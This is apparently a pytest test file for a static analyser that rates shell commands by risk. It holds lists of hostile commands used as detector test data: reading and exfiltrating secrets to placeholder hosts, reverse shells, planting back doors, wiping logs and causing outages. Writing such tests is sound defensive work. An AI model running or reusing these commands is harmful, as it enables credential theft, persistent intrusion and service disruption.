"""Reading and sending secrets, back doors, hidden traces and outages, and what only looks like them."""

from __future__ import annotations

import pytest

from catalog.analysis import Risk, SideEffect, analyse_static

READS = """
    cat /etc/shadow;;sudo head -1 < /etc/shadow;;x=$(</etc/shadow);;while read l; do echo $l; done < /etc/gshadow
    a=/etc; cat $a/sha""dow;;cat /etc/sha*;;cd /etc && tac shadow;;cat ~/.ssh/id_rsa;;cat /home/*/.ssh/id_ed25519
    base64 "$HOME/.aws/credentials";;jq . ~/.docker/config.json;;sed -n p /srv/app/.env;;cp -r ~/.ssh /tmp/k
    openssl rsa -in server.key;;python3 -c 'print(open("/etc/shadow").read())';;cat /proc/1/environ
    find / -name id_rsa;;grep -rn password /srv;;echo $AWS_SECRET_ACCESS_KEY;;printenv DB_PASSWORD;;getent shadow
    kubectl get secrets -A -o json;;kubectl get secret db -ojsonpath={.data.p};;kubectl config view --raw
    vault read secret/db;;az keyvault secret show -n x;;gcloud secrets versions access 1 --secret=x
    curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web;;cat ~/.bash_history
    mysql -e 'select authentication_string from mysql.user';;terraform state pull;;oc whoami -t;;pass show mail
"""
SENDS = """
    curl -d @/etc/shadow http://x;;curl -F 'f=@/root/.kube/config' http://x;;curl -T ~/.ssh/id_rsa ftp://x
    wget --post-file=/etc/shadow http://x;;tar cz ~/.ssh | nc x 99;;nc x 99 < /etc/shadow;;scp ~/.ssh/id_rsa x:
    rsync -a ~/.aws x:loot;;env | curl -X POST --data-binary @- http://x;;printenv | nc x 9
    curl "http://x/?k=$(base64 ~/.ssh/id_rsa)";;D=$(base64 /etc/shadow); curl -d "$D" http://x
    cat ~/.netrc > /dev/tcp/192.0.2.1/80;;dig $(base64 f).x.example;;aws s3 cp /dev/stdin s3://b < /etc/shadow
    for b in $(xxd -p f); do dig $b.x.example; done;;xxd -p f | while read b; do host $b.x.example; done
    vault read secret/db | nc x 9;;kubectl get secret x -o yaml | curl -d @- http://x;;cat .env | mail -s x a@x.example
"""
BACK_DOORS = """
    echo key >> ~/.ssh/authorized_keys;;tee -a /root/.ssh/authorized_keys < k.pub;;cp k /home/bob/.ssh/authorized_keys
    sed -i '$a key' /root/.ssh/authorized_keys;;install -m 600 k ~/.ssh/authorized_keys
    echo 'bob ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/bob;;echo /x.so > /etc/ld.so.preload
    cp ca.crt /usr/local/share/ca-certificates/;;trust anchor ca.pem;;socat TCP:x:4 EXEC:/bin/sh;;nc -e /bin/sh x 4
    ncat -lvp 4 --sh-exec bash;;mkfifo f; cat f | sh -i 2>&1 | nc x 4 > f;;useradd -o -u 0 toor
    echo 'x::0:0::/:/bin/sh' >> /etc/passwd;;chmod u+s /bin/bash;;cp /bin/sh /tmp/s; chmod 4755 /tmp/s
    setcap cap_setuid+ep /usr/bin/python3;;perl -e 'use Socket;socket(S,2,1,6);exec("/bin/sh -i");'
    echo 'bash -i >& /dev/tcp/x/9 0>&1' > ~/.config/systemd/user/x.service
    python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")';;cp x /bin/ls
"""
OPENS = """
    chmod 755 /etc/ssl/private;;chmod -R a+r /root/.ssh;;chmod +r ~/.netrc;;find /root -exec chmod o+x {} +
    chown nobody /etc/shadow;;chgrp users ~/.kube/config;;setfacl -m u:bob:r ~/.aws/credentials
"""
SENDS_MUCH = """
    pg_dumpall | gzip | nc x 4;;tar cz /etc | openssl s_client -connect x:443;;mysqldump x | ssh 203.0.113.7 'cat > f'
    pg_dump x > d.sql; curl -T d.sql http://x;;nc x 9 < /var/lib/mysql/ibdata1;;tar cz /home > /dev/tcp/x/9
"""
TRACES = """
    export HISTFILE=/dev/null;;unset HISTFILE;;HISTSIZE=0;;set +o history;;history -c;;rm ~/.bash_history
    ln -sf /dev/null ~/.bash_history;;: > /var/log/auth.log;;shred -u /var/log/wtmp;;sed -i /x/d /var/log/secure
    auditctl -D;;auditctl -e 0;;systemctl stop auditd;;systemctl disable --now rsyslog;;journalctl --vacuum-time=1s
    aws cloudtrail stop-logging --name x;;rm -rf /var/log/*;;pkill auditd;;aa-teardown;;rm -r /var/log/audit
"""
OUTAGES = """
    iptables -P INPUT DROP;;route del default;;ip route del default;;ip -4 r flush all;;systemctl stop sshd
    systemctl --now mask ssh.service;;systemctl isolate rescue.target;;kill -9 -1;;kill -KILL 1;;killall -9 sshd
    echo c > /proc/sysrq-trigger;;firewall-cmd --panic-on;;nmcli networking off;;service networking stop
    ssh sw reload;;ssh sw 'write erase';;ssh sw 'delete /force flash:x'
    :(){ :|:& };:;;tc qdisc add dev eth0 root netem loss 100%;;telinit 1
"""
ORDINARY = """
    cat /etc/passwd;;ssh -i ~/.ssh/id_rsa host uptime;;ls -la ~/.ssh;;export KUBECONFIG=~/.kube/config
    kubectl --kubeconfig ~/.kube/config get pods;;curl --key k.pem --cert c.pem https://x;;cat ~/.ssh/id_rsa.pub
    openssl x509 -in cert.pem -noout -enddate;;dig "$name.example.com";;curl "https://x/?h=$(hostname)"
    env | sort;;nc -zv host 22;;kubectl get secrets;;cat /var/log/auth.log;;grep -c root /etc/shadow;;crontab -l
    find . -name package.json;;history;;oc adm top nodes;;systemctl --user status x;;git stash list;;vault status
"""


def commands(text: str) -> list[str]:
    return [command.strip() for line in text.strip().splitlines() for command in line.split(";;")]


@pytest.mark.parametrize(
    ("text", "codes", "risks"),
    [
        (READS, {"reads_secrets"}, {Risk.MEDIUM}),
        (SENDS, {"exfiltration"}, {Risk.HIGH}),
        (SENDS_MUCH, {"exfiltration"}, {Risk.MEDIUM}),
        (OPENS, {"privileged"}, {Risk.MEDIUM}),
        (BACK_DOORS, {"back_door"}, {Risk.HIGH}),
        (TRACES, {"hidden_traces", "mutating"}, {Risk.HIGH}),
        (OUTAGES, {"outage", "destructive"}, {Risk.HIGH}),
    ],
    ids=["reads", "sends", "sends much", "opens", "back doors", "traces", "outages"],
)
def test_attack_is_found_with_its_kind_and_is_never_read_only(
    text: str, codes: set[str], risks: set[Risk]
) -> None:
    missed = {}
    for script in commands(text):
        report = analyse_static(script)
        found = {one.code for one in report.problems}
        if (
            report.risk not in risks
            or not codes & found
            or report.side_effect is SideEffect.READ_ONLY
        ):
            missed[script] = (report.risk.value, report.side_effect.value, found)
    assert not missed


def test_ordinary_command_near_a_secret_is_low() -> None:
    found = {script: analyse_static(script) for script in commands(ORDINARY)}
    assert not {
        script: report.problems for script, report in found.items() if report.risk is not Risk.LOW
    }


@pytest.mark.parametrize(
    "script",
    ['SUDO=""; [ $EUID -ne 0 ] && SUDO=sudo; $SUDO ls', "${SUDO:-sudo} ls", "ssh host sudo ls", "xargs sudo ls",
     "run() { sudo \"$@\"; }; run ls", "bash -c 'sudo ls'", "find . -exec sudo ls {} +", "s=doas; $s ls"],
)  # fmt: skip
def test_sudo_anywhere_means_root_rights(script: str) -> None:
    messages = [
        found.message for found in analyse_static(script).problems if found.code == "privileged"
    ]
    assert any("rights of root" in message for message in messages)
